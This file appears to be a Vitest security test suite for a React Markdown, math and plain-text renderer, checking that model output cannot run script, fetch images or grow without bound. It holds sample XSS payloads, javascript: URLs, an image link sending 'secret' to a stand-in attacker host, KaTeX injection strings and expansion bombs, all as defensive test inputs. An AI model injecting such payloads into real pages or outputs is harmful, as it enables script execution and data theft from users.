import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown } from './Markdown';
import MathBlock from './MathBlock';
import { PlainText } from './PlainText';

const markdown = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

describe('Markdown of a model', () => {
  it('never makes an element from raw HTML', () => {
    const html = markdown(
      '<img src=x onerror=alert(1)>\n\n<script>alert(1)</script>\n\na <b onclick="x">b</b>',
    );
    expect(html).not.toMatch(/<(img|script|b)\b/);
    expect(html).toContain('&lt;script&gt;');
  });

  it('shows the words of a picture and never fetches it', () => {
    const html = markdown('![a cat](https://evil.example/?q=secret) ![][r]\n\n[r]: https://evil.example/2');
    expect(html).not.toContain('<img');
    expect(html).not.toContain('evil.example');
    expect(html).toContain('a cat (picture not shown)');
  });

  it('opens links elsewhere, without a trace, and says where they lead', () => {
    const html = markdown('[your bank](https://evil.example/login)');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
    expect(html).toContain('target="_blank"');
    expect(html).toContain('(evil.example)');
  });

  it('leaves the words of a link that may not be one', () => {
    for (const href of ['javascript:alert(1)', 'data:text/html,x', '/sign-out', 'JAVASCRIPT:alert(1)']) {
      expect(markdown(`[press](${href})`)).toBe('<p>press</p>');
    }
  });

  it('starts its headings below those of the page', () => {
    expect(markdown('# One\n\n### Two')).toBe('<h3>One</h3><h4>Two</h4>');
  });

  it.each([
    'x@y.',
    '> ',
    '- ',
    '1. ',
    '[',
    '![](',
    '**a ',
    '`',
    '<',
    'http://',
    '_a_',
    '|',
    '$',
    '\\[',
    '[ ',
    '![ ',
    'x@y.z ',
    '<a ',
    '&a; ',
    'a\n',
    '* a\n',
    '> a\n',
    '[a](b ',
  ])('draws thousands of %j in a moment', (piece) => {
    const started = performance.now();
    markdown(piece.repeat(Math.ceil(8_000 / piece.length)));
    expect(performance.now() - started).toBeLessThan(4_000);
  });

  it('draws a finished part of a growing text as it is drawn in the end', () => {
    const whole = markdown('First **part**.\n\nSecond part.');
    const growing = renderToStaticMarkup(<Markdown growing text={'First **part**.\n\nSecond **pa'} />);
    expect(whole.startsWith('<p>First <strong>part</strong>.</p>')).toBe(true);
    expect(growing).toBe('<p>First <strong>part</strong>.</p><p>Second <strong>pa</strong></p>');
  });
});

describe('formulas', () => {
  // Without the annotation, which repeats the source as text for screen readers.
  const math = (text: string) =>
    renderToStaticMarkup(<MathBlock text={text} />).replace(/<annotation\b.*?<\/annotation>/g, '');

  it('cannot link, load or add attributes', () => {
    const html = math(
      '$\\href{javascript:alert(1)}{x}$ $\\url{https://evil.example}$ $\\includegraphics{https://evil.example/a.png}$ $\\htmlData{a=b}{x}$ $\\htmlStyle{position:fixed}{x}$',
    );
    expect(html).not.toMatch(/<a\b|<img\b|data-a=|position:\s*fixed/);
  });

  it('cannot grow without bound', () => {
    expect(math('$\\rule{9999em}{9999em}$')).not.toContain('9999em');
    const started = performance.now();
    math('$\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\d\\d}\\def\\d{\\a\\a}\\a$');
    expect(performance.now() - started).toBeLessThan(1_000);
  });
});

describe('text of a person', () => {
  it('is shown as typed', () => {
    const html = renderToStaticMarkup(<PlainText text={'2*3*4 <b>\n1. [x](javascript:1) costs $5 and $6'} />);
    expect(html).toBe('<div class="raw">2*3*4 &lt;b&gt;\n1. [x](javascript:1) costs $5 and $6</div>');
  });
});
